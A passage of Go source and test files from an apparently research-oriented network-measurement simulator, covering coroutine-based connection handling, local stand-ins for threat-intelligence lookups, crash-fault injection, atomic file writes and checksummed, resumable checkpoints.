		MustParsePrefix("192.168.0.0/16"),
		MustParsePrefix("10.0.0.0/8"),
	)
	ps := s.Prefixes()
	if len(ps) != 2 || ps[0].IP > ps[1].IP {
		t.Fatalf("Prefixes() not sorted: %v", ps)
	}
}
