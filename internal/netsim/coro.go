package netsim

// coro.go multiplexes blocking StreamHandlers onto pooled coroutine workers.
//
// Handlers that have not (yet) been converted to native steppers still run
// their ordinary blocking Serve loop — but instead of a fresh goroutine per
// dial, the engine checks a parked worker out of a global freelist and
// ping-pongs control with it over unbuffered channels. Exactly one of the two
// goroutines (client driver, worker) is runnable at any instant, and every
// handoff is a channel operation, so execution is deterministic and every
// memory access on the conversation is ordered — the race detector sees a
// clean happens-before chain with zero extra synchronization.
//
// A worker goroutine is created on first use and parks between conversations;
// steady-state dials allocate nothing and spawn nothing. The freelist is an
// explicit mutex-guarded stack rather than a sync.Pool: a dropped pool entry
// would orphan a parked goroutine forever.

import (
	"context"
	"sync"
)

type coroJob struct {
	handler StreamHandler
	ctx     context.Context
	sconn   *ServiceConn
	party   *coroParty
}

// coroWorker is a reusable goroutine that runs one blocking handler at a
// time. All three channels are unbuffered: sends are rendezvous points that
// transfer the single "runnable" token between driver and worker.
type coroWorker struct {
	jobs   chan coroJob
	resume chan struct{}
	yield  chan struct{}
}

func newCoroWorker() *coroWorker {
	w := &coroWorker{
		jobs:   make(chan coroJob),
		resume: make(chan struct{}),
		yield:  make(chan struct{}),
	}
	go w.loop()
	return w
}

func (w *coroWorker) loop() {
	for job := range w.jobs {
		job.handler.Serve(job.ctx, job.sconn)
		_ = job.sconn.Close()
		job.party.done = true
		w.yield <- struct{}{}
	}
}

// parkRead blocks the worker until the driver resumes it. Called from the
// server endpoint's Read when no input is buffered.
func (w *coroWorker) parkRead() {
	w.yield <- struct{}{}
	<-w.resume
}

var coroFree struct {
	mu   sync.Mutex
	list []*coroWorker
}

func getCoroWorker() *coroWorker {
	coroFree.mu.Lock()
	if n := len(coroFree.list); n > 0 {
		w := coroFree.list[n-1]
		coroFree.list = coroFree.list[:n-1]
		coroFree.mu.Unlock()
		return w
	}
	coroFree.mu.Unlock()
	return newCoroWorker()
}

func putCoroWorker(w *coroWorker) {
	coroFree.mu.Lock()
	coroFree.list = append(coroFree.list, w)
	coroFree.mu.Unlock()
}

// coroParty adapts a blocking StreamHandler to the serverParty interface.
// done is written by the worker goroutine and read by the driver, but every
// write happens before a yield-channel send and every read after the
// receive, so it needs no atomics.
type coroParty struct {
	w       *coroWorker
	n       *Network
	pending coroJob // handed to the worker on first resume
	started bool
	done    bool
}

func newCoroParty(ctx context.Context, n *Network, handler StreamHandler, sconn *ServiceConn) *coroParty {
	p := &coroParty{w: getCoroWorker(), n: n}
	p.pending = coroJob{handler: handler, ctx: ctx, sconn: sconn, party: p}
	return p
}

func (p *coroParty) resume() {
	if p.done {
		return
	}
	if !p.started {
		p.started = true
		p.w.jobs <- p.pending
		p.pending = coroJob{}
	} else {
		p.w.resume <- struct{}{}
	}
	<-p.w.yield
	if p.done {
		putCoroWorker(p.w)
		p.n.handlers.Done()
	}
}

func (p *coroParty) finished() bool { return p.done }
