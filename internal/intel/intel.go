// Package intel provides the local threat-intelligence substrate standing in
// for the external services the paper joins against: GreyNoise (benign /
// malicious / unknown source classification, Section 4.3.3), VirusTotal
// (per-IP and per-sample vendor verdicts, Figure 6 and Table 13) and the
// Censys IoT-tag dataset (Section 5.3).
//
// The stores are populated by the simulation itself: scanning-service actors
// register their ranges, the malware corpus registers sample hashes, and the
// attack layer reports sightings. Joins in the analysis pipeline therefore
// run the same logic as the paper against a consistent local ground truth,
// with the same imperfections — GreyNoise-like coverage gaps are modeled
// explicitly (the paper found 2,023 scanning-service IPs GreyNoise missed).
package intel

import (
	"sync"

	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// GreyNoiseLabel is the three-way source classification.
type GreyNoiseLabel uint8

// GreyNoise labels.
const (
	LabelUnknown GreyNoiseLabel = iota
	LabelBenign
	LabelMalicious
)

// String names the label.
func (l GreyNoiseLabel) String() string {
	switch l {
	case LabelBenign:
		return "benign"
	case LabelMalicious:
		return "malicious"
	default:
		return "unknown"
	}
}

// GreyNoise is the source-classification store.
type GreyNoise struct {
	mu sync.RWMutex
	// labels holds explicit registrations.
	labels map[netsim.IPv4]GreyNoiseLabel
	// coverage is the probability a benign registration is actually known
	// to the service; the paper found GreyNoise missed 2,023 of the
	// scanning-service addresses the honeypots identified.
	coverage float64
	src      *prng.Source
}

// NewGreyNoise builds a store with the given benign-coverage probability
// (0 < coverage <= 1; the calibrated default is 0.81, matching the paper's
// ~10,696-2,023 over 10,696 hit rate).
func NewGreyNoise(seed uint64, coverage float64) *GreyNoise {
	if coverage <= 0 || coverage > 1 {
		coverage = 0.81
	}
	return &GreyNoise{
		labels:   make(map[netsim.IPv4]GreyNoiseLabel),
		coverage: coverage,
		src:      prng.New(seed),
	}
}

// RegisterBenign marks ip as scanning-service infrastructure. Whether the
// service actually knows it is subject to the coverage model.
func (g *GreyNoise) RegisterBenign(ip netsim.IPv4) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.src.Hash64(prng.HashString("gn-cover"), uint64(ip))%1000 < uint64(g.coverage*1000) {
		g.labels[ip] = LabelBenign
	}
}

// RegisterMalicious marks ip as a known-bad source.
func (g *GreyNoise) RegisterMalicious(ip netsim.IPv4) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.labels[ip] = LabelMalicious
}

// Lookup returns the service's label for ip.
func (g *GreyNoise) Lookup(ip netsim.IPv4) GreyNoiseLabel {
	g.mu.RLock()
	defer g.mu.RUnlock()
	return g.labels[ip]
}

// Count returns how many addresses carry each label.
func (g *GreyNoise) Count() map[GreyNoiseLabel]int {
	g.mu.RLock()
	defer g.mu.RUnlock()
	out := make(map[GreyNoiseLabel]int)
	for _, l := range g.labels {
		out[l]++
	}
	return out
}

// VirusTotal is the vendor-verdict store for IPs and sample hashes.
type VirusTotal struct {
	mu sync.RWMutex
	// ipScores maps an address to the number of vendors flagging it.
	ipScores map[netsim.IPv4]int
	// samples maps a SHA-256 hex digest to the detected variant name.
	samples map[string]string
}

// NewVirusTotal builds an empty store.
func NewVirusTotal() *VirusTotal {
	return &VirusTotal{
		ipScores: make(map[netsim.IPv4]int),
		samples:  make(map[string]string),
	}
}

// FlagIP records that `vendors` additional vendors consider ip malicious.
func (v *VirusTotal) FlagIP(ip netsim.IPv4, vendors int) {
	if vendors <= 0 {
		return
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	if vendors > v.ipScores[ip] {
		v.ipScores[ip] = vendors
	}
}

// IPScore returns the positive-vendor count for ip.
func (v *VirusTotal) IPScore(ip netsim.IPv4) int {
	v.mu.RLock()
	defer v.mu.RUnlock()
	return v.ipScores[ip]
}

// IsMalicious applies the paper's rule: at least one vendor flags the IP
// (Section 4.3.3).
func (v *VirusTotal) IsMalicious(ip netsim.IPv4) bool {
	return v.IPScore(ip) >= 1
}

// SubmitSample records a sample digest with its variant classification.
func (v *VirusTotal) SubmitSample(sha256hex, variant string) {
	v.mu.Lock()
	defer v.mu.Unlock()
	v.samples[sha256hex] = variant
}

// LookupSample returns the variant name for a digest.
func (v *VirusTotal) LookupSample(sha256hex string) (string, bool) {
	v.mu.RLock()
	defer v.mu.RUnlock()
	variant, ok := v.samples[sha256hex]
	return variant, ok
}

// SampleCount returns how many distinct samples the store knows.
func (v *VirusTotal) SampleCount() int {
	v.mu.RLock()
	defer v.mu.RUnlock()
	return len(v.samples)
}

// Censys is the IoT-tag dataset: addresses its periodic scans labelled as
// IoT devices, with a device-type string ("camera", "router", "ip phone").
type Censys struct {
	mu   sync.RWMutex
	tags map[netsim.IPv4]string
}

// NewCensys builds an empty store.
func NewCensys() *Censys {
	return &Censys{tags: make(map[netsim.IPv4]string)}
}

// Tag records ip as an IoT device of the given type.
func (c *Censys) Tag(ip netsim.IPv4, deviceType string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.tags[ip] = deviceType
}

// IoTTag returns the device-type tag for ip, if any.
func (c *Censys) IoTTag(ip netsim.IPv4) (string, bool) {
	c.mu.RLock()
	defer c.mu.RUnlock()
	tag, ok := c.tags[ip]
	return tag, ok
}

// Len returns the number of tagged devices.
func (c *Censys) Len() int {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return len(c.tags)
}
