package intel

import (
	"math"
	"testing"

	"openhire/internal/netsim"
)

func TestGreyNoiseCoverageModel(t *testing.T) {
	g := NewGreyNoise(1, 0.81)
	const n = 20000
	for i := 0; i < n; i++ {
		g.RegisterBenign(netsim.IPv4(i))
	}
	counts := g.Count()
	covered := float64(counts[LabelBenign]) / n
	if math.Abs(covered-0.81) > 0.02 {
		t.Fatalf("coverage %.3f, want ~0.81", covered)
	}
}

func TestGreyNoiseCoverageDeterministic(t *testing.T) {
	g1 := NewGreyNoise(5, 0.8)
	g2 := NewGreyNoise(5, 0.8)
	for i := 0; i < 100; i++ {
		g1.RegisterBenign(netsim.IPv4(i))
		g2.RegisterBenign(netsim.IPv4(i))
	}
	for i := 0; i < 100; i++ {
		if g1.Lookup(netsim.IPv4(i)) != g2.Lookup(netsim.IPv4(i)) {
			t.Fatal("coverage decisions not deterministic")
		}
	}
}

func TestGreyNoiseMaliciousAlwaysRecorded(t *testing.T) {
	g := NewGreyNoise(2, 0.5)
	for i := 0; i < 100; i++ {
		g.RegisterMalicious(netsim.IPv4(i))
	}
	for i := 0; i < 100; i++ {
		if g.Lookup(netsim.IPv4(i)) != LabelMalicious {
			t.Fatal("malicious registration dropped")
		}
	}
}

func TestGreyNoiseUnknownDefault(t *testing.T) {
	g := NewGreyNoise(3, 0.9)
	if g.Lookup(netsim.MustParseIPv4("9.9.9.9")) != LabelUnknown {
		t.Fatal("unregistered IP not unknown")
	}
}

func TestGreyNoiseBadCoverageFallsBack(t *testing.T) {
	g := NewGreyNoise(4, 0)
	// Must not panic and must use the default coverage.
	g.RegisterBenign(1)
	_ = g.Count()
}

func TestLabelString(t *testing.T) {
	if LabelBenign.String() != "benign" || LabelMalicious.String() != "malicious" ||
		LabelUnknown.String() != "unknown" {
		t.Fatal("label names")
	}
}

func TestVirusTotalIPScore(t *testing.T) {
	v := NewVirusTotal()
	ip := netsim.MustParseIPv4("1.2.3.4")
	if v.IsMalicious(ip) {
		t.Fatal("fresh IP malicious")
	}
	v.FlagIP(ip, 3)
	v.FlagIP(ip, 1) // lower score must not overwrite
	if v.IPScore(ip) != 3 || !v.IsMalicious(ip) {
		t.Fatalf("score %d", v.IPScore(ip))
	}
	v.FlagIP(ip, 0) // no-op
	if v.IPScore(ip) != 3 {
		t.Fatal("zero flag changed score")
	}
}

func TestVirusTotalSamples(t *testing.T) {
	v := NewVirusTotal()
	v.SubmitSample("abc123", "Mirai")
	variant, ok := v.LookupSample("abc123")
	if !ok || variant != "Mirai" {
		t.Fatalf("sample %q, %v", variant, ok)
	}
	if _, ok := v.LookupSample("nope"); ok {
		t.Fatal("phantom sample")
	}
	if v.SampleCount() != 1 {
		t.Fatal("count wrong")
	}
}

func TestCensysTags(t *testing.T) {
	c := NewCensys()
	ip := netsim.MustParseIPv4("5.6.7.8")
	c.Tag(ip, "camera")
	tag, ok := c.IoTTag(ip)
	if !ok || tag != "camera" {
		t.Fatalf("tag %q, %v", tag, ok)
	}
	if _, ok := c.IoTTag(netsim.MustParseIPv4("8.8.8.8")); ok {
		t.Fatal("phantom tag")
	}
	if c.Len() != 1 {
		t.Fatal("len wrong")
	}
}
