// Package crashpoint provides named kill sites for crash-fault injection.
//
// A crashpoint is a place in a binary where a kill is interesting: right
// after a durable-state transition (a checkpoint committed, an artifact
// renamed into place, a day of generation finished). The crash harness arms
// exactly one site per child process through the environment and asserts
// that killing there and resuming yields outputs byte-identical to an
// uninterrupted run — the process-death analogue of the chaos gate's
// fault-model equivalence.
//
// Sites are compiled in unconditionally. Here is a single predictable branch
// on a package-level bool when nothing is armed, and every site sits at a
// per-segment or per-day commit — never inside a per-probe or per-flow hot
// path — so the hooks are free at benchmark resolution.
package crashpoint

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
)

// EnvVar arms one site for the current process: "SITE" kills at the first
// execution of Here(SITE), "SITE@N" at the Nth.
const EnvVar = "OPENHIRE_CRASHPOINT"

// ExitCode is the distinct status an armed crashpoint exits with, so the
// harness can tell an injected kill from an ordinary failure.
const ExitCode = 87

var (
	enabled  bool
	armedRaw string
	armed    string
	armedHit int64
	hits     atomic.Int64
)

func init() {
	armFromEnv(os.Getenv(EnvVar))
}

// armFromEnv parses and installs a SITE[@N] spec; empty disarms.
func armFromEnv(spec string) {
	enabled, armed, armedRaw, armedHit = false, "", spec, 1
	hits.Store(0)
	if spec == "" {
		return
	}
	site := spec
	if i := strings.LastIndexByte(spec, '@'); i >= 0 {
		n, err := strconv.Atoi(spec[i+1:])
		if err != nil || n < 1 {
			fmt.Fprintf(os.Stderr, "crashpoint: bad %s spec %q (want SITE or SITE@N)\n", EnvVar, spec)
			os.Exit(2)
		}
		site, armedHit = spec[:i], int64(n)
	}
	enabled, armed = true, site
}

// Here marks a named kill site. When the site is armed and this is its
// armed-for hit, the process exits immediately with ExitCode — no deferred
// cleanup runs, exactly like a SIGKILL landing between two instructions.
func Here(name string) {
	if !enabled || name != armed {
		return
	}
	if hits.Add(1) == armedHit {
		fmt.Fprintf(os.Stderr, "crashpoint: killed at %s (spec %s)\n", name, armedRaw)
		os.Exit(ExitCode)
	}
}

// Registered site names. Every durable-state transition in the three legs
// has a site here; the crash harness sweeps these lists, so adding a site
// without extending the matching list means it is never exercised.
const (
	// SiteAtomicStaged fires inside the atomic-write helper after the temp
	// file is written and synced but before the rename — the torn-write
	// window every durable artifact passes through.
	SiteAtomicStaged = "atomic.staged"

	SiteScanSegmentCommit   = "scan.segment.commit"
	SiteScanModuleDone      = "scan.module.done"
	SiteScanResultsWritten  = "scan.results.written"
	SiteScanTraceWritten    = "scan.trace.written"
	SiteScanManifestWritten = "scan.manifest.written"

	SiteTelescopeDayCommit       = "telescope.day.commit"
	SiteTelescopeFileWritten     = "telescope.file.written"
	SiteTelescopeTraceWritten    = "telescope.trace.written"
	SiteTelescopeManifestWritten = "telescope.manifest.written"

	SiteCampaignDayCommit       = "campaign.day.commit"
	SiteHoneypotExportWritten   = "honeypot.export.written"
	SiteHoneypotTraceWritten    = "honeypot.trace.written"
	SiteHoneypotManifestWritten = "honeypot.manifest.written"

	SiteServeCycleCommit       = "serve.cycle.commit"
	SiteServeHourFileWritten   = "serve.telescope.hour.written"
	SiteServeTSDBWritten       = "serve.tsdb.written"
	SiteServeAggregatesWritten = "serve.aggregates.written"
	SiteServeTimeseriesWritten = "serve.timeseries.written"
	SiteServeManifestWritten   = "serve.manifest.written"
)

// ScanSites are the kill sites the scan leg passes through, in the order a
// run reaches them.
var ScanSites = []string{
	SiteAtomicStaged,
	SiteScanSegmentCommit,
	SiteScanModuleDone,
	SiteScanResultsWritten,
	SiteScanTraceWritten,
	SiteScanManifestWritten,
}

// TelescopeSites are the telescope leg's kill sites.
var TelescopeSites = []string{
	SiteAtomicStaged,
	SiteTelescopeDayCommit,
	SiteTelescopeFileWritten,
	SiteTelescopeTraceWritten,
	SiteTelescopeManifestWritten,
}

// HoneypotSites are the honeypot/attack leg's kill sites.
var HoneypotSites = []string{
	SiteAtomicStaged,
	SiteCampaignDayCommit,
	SiteHoneypotExportWritten,
	SiteHoneypotTraceWritten,
	SiteHoneypotManifestWritten,
}

// ServeSites are the continuous-measurement daemon's kill sites.
var ServeSites = []string{
	SiteAtomicStaged,
	SiteServeHourFileWritten,
	SiteServeTSDBWritten,
	SiteServeCycleCommit,
	SiteServeAggregatesWritten,
	SiteServeTimeseriesWritten,
	SiteServeManifestWritten,
}
