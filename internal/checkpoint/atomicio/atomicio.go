// Package atomicio writes durable artifacts atomically.
//
// Every file the pipeline emits for later consumption — FlowTuple files,
// scan results, trace JSONL, manifests, checkpoints — goes through
// WriteFile: the bytes land in a temp file in the destination directory,
// are fsynced, and are renamed over the final path, followed by a directory
// sync so the rename itself is durable. A process killed at any instruction
// leaves either the complete old file or the complete new file, never a
// torn one.
package atomicio

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"openhire/internal/checkpoint/crashpoint"
)

// WriteFile atomically replaces path with the bytes produced by write.
// The writer passed to write is buffered; write need not flush it.
func WriteFile(path string, write func(w io.Writer) error) (err error) {
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, "."+filepath.Base(path)+".tmp*")
	if err != nil {
		return fmt.Errorf("atomicio: stage %s: %w", path, err)
	}
	defer func() {
		if err != nil {
			tmp.Close()
			os.Remove(tmp.Name())
		}
	}()
	bw := bufio.NewWriterSize(tmp, 1<<16)
	if err = write(bw); err != nil {
		return fmt.Errorf("atomicio: write %s: %w", path, err)
	}
	if err = bw.Flush(); err != nil {
		return fmt.Errorf("atomicio: flush %s: %w", path, err)
	}
	if err = tmp.Sync(); err != nil {
		return fmt.Errorf("atomicio: sync %s: %w", path, err)
	}
	if err = tmp.Close(); err != nil {
		return fmt.Errorf("atomicio: close %s: %w", path, err)
	}
	crashpoint.Here(crashpoint.SiteAtomicStaged)
	if err = os.Rename(tmp.Name(), path); err != nil {
		return fmt.Errorf("atomicio: publish %s: %w", path, err)
	}
	return syncDir(dir)
}

// WriteFileBytes atomically replaces path with data.
func WriteFileBytes(path string, data []byte) error {
	return WriteFile(path, func(w io.Writer) error {
		_, err := w.Write(data)
		return err
	})
}

// syncDir makes a preceding rename in dir durable. Some filesystems do not
// support fsync on directories; those errors are ignored.
func syncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return nil
	}
	defer d.Close()
	d.Sync()
	return nil
}
