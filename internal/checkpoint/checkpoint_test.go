package checkpoint

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

type sampleState struct {
	Cursor uint64         `json:"cursor"`
	Names  []string       `json:"names,omitempty"`
	Hits   map[string]int `json:"hits,omitempty"`
}

// TestSaveLoadRoundTrip asserts Restore(Save(state)) identity through the
// full container: every field survives, and the returned records agree on
// size and digest.
func TestSaveLoadRoundTrip(t *testing.T) {
	dir := t.TempDir()
	in := sampleState{
		Cursor: 1 << 40,
		Names:  []string{"a", "b", ""},
		Hits:   map[string]int{"x": 3, "y": 0},
	}
	saved, err := Save(dir, "scan", "seg0001", 42, &in)
	if err != nil {
		t.Fatal(err)
	}
	if saved.Name != "seg0001" || saved.Bytes == 0 || saved.Digest == "" {
		t.Fatalf("bad record: %+v", saved)
	}
	var out sampleState
	loaded, err := Load(dir, "scan", 42, &out)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Bytes != saved.Bytes || loaded.Digest != saved.Digest {
		t.Fatalf("load record %+v disagrees with save record %+v", loaded, saved)
	}
	if out.Cursor != in.Cursor || len(out.Names) != len(in.Names) ||
		out.Hits["x"] != 3 {
		t.Fatalf("state did not round-trip: %+v", out)
	}
}

// TestLoadMissingFile asserts a never-written checkpoint surfaces as
// os.ErrNotExist — the signal binaries use for "fresh start".
func TestLoadMissingFile(t *testing.T) {
	var st sampleState
	_, err := Load(t.TempDir(), "scan", 1, &st)
	if !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("err = %v, want os.ErrNotExist", err)
	}
}

// TestLoadWrongLegOrSeed asserts a mismatched run identity is a descriptive
// error, not a corruption report — the file is intact, it just belongs to a
// different run.
func TestLoadWrongLegOrSeed(t *testing.T) {
	dir := t.TempDir()
	if _, err := Save(dir, "scan", "s", 7, &sampleState{Cursor: 1}); err != nil {
		t.Fatal(err)
	}
	var st sampleState
	if _, err := Load(dir, "scan", 8, &st); err == nil || errors.Is(err, ErrCorruptCheckpoint) {
		t.Fatalf("seed mismatch: err = %v, want descriptive non-corrupt error", err)
	}
	data, err := os.ReadFile(FileName(dir, "scan"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(FileName(dir, "telescope"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(dir, "telescope", 7, &st); err == nil || errors.Is(err, ErrCorruptCheckpoint) {
		t.Fatalf("leg mismatch: err = %v, want descriptive non-corrupt error", err)
	}
}

// TestDecodeRejectsDamage walks every single-byte truncation and a bit flip
// in every byte of a small checkpoint and asserts each yields a clean
// ErrCorruptCheckpoint — never a panic, never silent acceptance.
func TestDecodeRejectsDamage(t *testing.T) {
	data := Encode("scan", 99, []byte(`{"cursor":12345}`))
	if _, _, _, err := Decode(data); err != nil {
		t.Fatalf("pristine container rejected: %v", err)
	}
	for n := 0; n < len(data); n++ {
		if _, _, _, err := Decode(data[:n]); !errors.Is(err, ErrCorruptCheckpoint) {
			t.Fatalf("truncation to %d bytes: err = %v, want ErrCorruptCheckpoint", n, err)
		}
	}
	for i := range data {
		for bit := 0; bit < 8; bit++ {
			flipped := make([]byte, len(data))
			copy(flipped, data)
			flipped[i] ^= 1 << bit
			if _, _, _, err := Decode(flipped); !errors.Is(err, ErrCorruptCheckpoint) {
				t.Fatalf("bit flip at byte %d bit %d: err = %v, want ErrCorruptCheckpoint",
					i, bit, err)
			}
		}
	}
}

// TestLoadCorruptFile asserts damage surfaces through Load as
// ErrCorruptCheckpoint too (binaries report it and refuse to resume).
func TestLoadCorruptFile(t *testing.T) {
	dir := t.TempDir()
	if _, err := Save(dir, "scan", "s", 7, &sampleState{Cursor: 1}); err != nil {
		t.Fatal(err)
	}
	path := FileName(dir, "scan")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data[:len(data)-3], 0o644); err != nil {
		t.Fatal(err)
	}
	var st sampleState
	if _, err := Load(dir, "scan", 7, &st); !errors.Is(err, ErrCorruptCheckpoint) {
		t.Fatalf("err = %v, want ErrCorruptCheckpoint", err)
	}
}

// TestSaveCreatesDirectory asserts Save materializes the checkpoint
// directory itself — binaries point -checkpoint at paths that do not exist
// yet.
func TestSaveCreatesDirectory(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "nested", "ck")
	if _, err := Save(dir, "scan", "s", 7, &sampleState{}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(FileName(dir, "scan")); err != nil {
		t.Fatal(err)
	}
}

// FuzzCheckpointLoad feeds arbitrary bytes (seeded with valid, truncated and
// bit-flipped containers) through Decode and asserts it never panics and
// never accepts a container whose re-encoding disagrees with the input.
func FuzzCheckpointLoad(f *testing.F) {
	valid := Encode("scan", 7, []byte(`{"cursor":1,"names":["a"]}`))
	f.Add(valid)
	f.Add(valid[:len(valid)-1])
	f.Add(valid[:4])
	f.Add([]byte{})
	flipped := make([]byte, len(valid))
	copy(flipped, valid)
	flipped[10] ^= 0x40
	f.Add(flipped)
	f.Fuzz(func(t *testing.T, data []byte) {
		leg, seed, payload, err := Decode(data)
		if err != nil {
			if !errors.Is(err, ErrCorruptCheckpoint) {
				t.Fatalf("non-corrupt error from Decode: %v", err)
			}
			return
		}
		if got := Encode(leg, seed, payload); string(got) != string(data) {
			t.Fatalf("accepted container does not re-encode to itself")
		}
	})
}
