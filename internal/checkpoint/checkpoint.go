// Package checkpoint reads and writes the resumable-state snapshots that
// make the three legs kill-safe.
//
// The seeded world is derivable, so checkpoints are small: each leg saves
// only its position (cursors, counters, PRNG states) plus the outputs
// accumulated so far. Files are self-describing and integrity-protected:
//
//	magic "OHCK" | version u16 | leg len u16 | leg | seed u64 |
//	payload len u64 | payload (JSON) | CRC-32C over everything before it
//
// all fixed-width fields little-endian. A checkpoint written at a given
// cadence point is a pure function of (seed, config, build) — independent
// of how many times the process was killed and resumed before reaching it —
// which is what lets the obs manifest record checkpoint digests and still
// diff clean between an interrupted run and an uninterrupted one.
//
// Loads are paranoid: any truncation, bit flip, wrong magic, or version
// skew yields an error wrapping ErrCorruptCheckpoint, never a panic or a
// silent partial state.
package checkpoint

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"

	"openhire/internal/checkpoint/atomicio"
	"openhire/internal/obs"
)

// Version is the current container format version. Loaders reject any other
// version rather than guess at a layout.
const Version = 1

// ErrCorruptCheckpoint reports a checkpoint file that failed validation —
// truncated, bit-flipped, wrong magic, or wrong version. All Load parse
// failures wrap it.
var ErrCorruptCheckpoint = errors.New("corrupt checkpoint")

var magic = [4]byte{'O', 'H', 'C', 'K'}

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// FileName returns the checkpoint path for a leg under dir.
func FileName(dir, leg string) string {
	return filepath.Join(dir, leg+".ckpt")
}

// Save marshals state as the leg's checkpoint payload and atomically writes
// dir/<leg>.ckpt. The returned record carries the given position name plus
// the file's size and content digest, ready for the obs manifest.
func Save(dir, leg, name string, seed uint64, state any) (obs.CheckpointRecord, error) {
	payload, err := json.Marshal(state)
	if err != nil {
		return obs.CheckpointRecord{}, fmt.Errorf("checkpoint %s: marshal: %w", leg, err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return obs.CheckpointRecord{}, err
	}
	data := Encode(leg, seed, payload)
	if err := atomicio.WriteFileBytes(FileName(dir, leg), data); err != nil {
		return obs.CheckpointRecord{}, err
	}
	return obs.CheckpointRecord{Name: name, Bytes: int64(len(data)), Digest: obs.Digest(data)}, nil
}

// Load reads dir/<leg>.ckpt, validates it against the expected leg and seed,
// and unmarshals the payload into state. A missing file returns an error
// satisfying errors.Is(err, os.ErrNotExist); a damaged one wraps
// ErrCorruptCheckpoint; a leg/seed mismatch gets its own descriptive error
// (the file is intact — it just belongs to a different run).
func Load(dir, leg string, seed uint64, state any) (obs.CheckpointRecord, error) {
	path := FileName(dir, leg)
	data, err := os.ReadFile(path)
	if err != nil {
		return obs.CheckpointRecord{}, err
	}
	gotLeg, gotSeed, payload, err := Decode(data)
	if err != nil {
		return obs.CheckpointRecord{}, fmt.Errorf("%s: %w", path, err)
	}
	if gotLeg != leg || gotSeed != seed {
		return obs.CheckpointRecord{}, fmt.Errorf("%s: checkpoint is for leg %q seed %d, want leg %q seed %d",
			path, gotLeg, gotSeed, leg, seed)
	}
	if err := json.Unmarshal(payload, state); err != nil {
		return obs.CheckpointRecord{}, fmt.Errorf("%s: payload: %w: %v", path, ErrCorruptCheckpoint, err)
	}
	return obs.CheckpointRecord{Bytes: int64(len(data)), Digest: obs.Digest(data)}, nil
}

// Encode builds the container bytes around an already-marshaled payload.
func Encode(leg string, seed uint64, payload []byte) []byte {
	buf := make([]byte, 0, len(magic)+2+2+len(leg)+8+8+len(payload)+4)
	buf = append(buf, magic[:]...)
	buf = binary.LittleEndian.AppendUint16(buf, Version)
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(leg)))
	buf = append(buf, leg...)
	buf = binary.LittleEndian.AppendUint64(buf, seed)
	buf = binary.LittleEndian.AppendUint64(buf, uint64(len(payload)))
	buf = append(buf, payload...)
	return binary.LittleEndian.AppendUint32(buf, crc32.Checksum(buf, castagnoli))
}

// Decode validates container bytes and returns the leg, seed and payload.
func Decode(data []byte) (leg string, seed uint64, payload []byte, err error) {
	fail := func(what string) (string, uint64, []byte, error) {
		return "", 0, nil, fmt.Errorf("%w: %s", ErrCorruptCheckpoint, what)
	}
	if len(data) < len(magic)+2+2+8+8+4 {
		return fail("short file")
	}
	if [4]byte(data[:4]) != magic {
		return fail("bad magic")
	}
	body, sum := data[:len(data)-4], binary.LittleEndian.Uint32(data[len(data)-4:])
	if crc32.Checksum(body, castagnoli) != sum {
		return fail("CRC mismatch")
	}
	if v := binary.LittleEndian.Uint16(body[4:6]); v != Version {
		return fail(fmt.Sprintf("version %d (want %d)", v, Version))
	}
	legLen := int(binary.LittleEndian.Uint16(body[6:8]))
	rest := body[8:]
	if len(rest) < legLen+16 {
		return fail("truncated header")
	}
	leg = string(rest[:legLen])
	rest = rest[legLen:]
	seed = binary.LittleEndian.Uint64(rest[:8])
	n := binary.LittleEndian.Uint64(rest[8:16])
	if n != uint64(len(rest[16:])) {
		return fail("payload length mismatch")
	}
	return leg, seed, rest[16:], nil
}

// ErrInterrupted is the sentinel a cadence callback returns to stop a
// checkpointed run cleanly after its state is durable: the runner unwinds,
// the binary writes final artifacts for the work completed so far, records
// interrupted:true in the manifest, and exits 0.
var ErrInterrupted = errors.New("interrupted: state checkpointed")
