//go:build !race

package crashtest

const raceEnabled = false
