//go:build race

package crashtest

// raceEnabled mirrors the test binary's own -race setting onto the child
// binaries the harness builds, so `go test -race` sweeps the crash matrix
// with the race detector watching the legs themselves.
const raceEnabled = true
