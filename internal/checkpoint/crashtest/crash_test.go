// Package crashtest is the kill-and-resume harness: it builds the leg
// binaries, arms one crashpoint per child process, kills each leg at every
// registered durable-state transition, resumes from the checkpoint, and
// asserts the final artifacts are byte-identical to an uninterrupted golden
// run. It also proves the zero-perturbation property — a checkpointing run
// that is never killed emits the same bytes as a run without -checkpoint.
//
// `go test -short` sweeps only the three mid-leg commit sites; the full run
// covers every site plus the @3 (third hit) variants of the commit sites.
package crashtest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"testing"

	"openhire/internal/checkpoint/crashpoint"
)

// binDir holds the leg binaries TestMain builds once for the whole sweep.
var binDir string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "crashtest-bin-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	binDir = dir
	root, err := filepath.Abs(filepath.Join("..", "..", ".."))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	for _, name := range []string{"openhire-scan", "openhire-telescope", "openhire-honeypots", "openhire-serve"} {
		args := []string{"build"}
		if raceEnabled {
			args = append(args, "-race")
		}
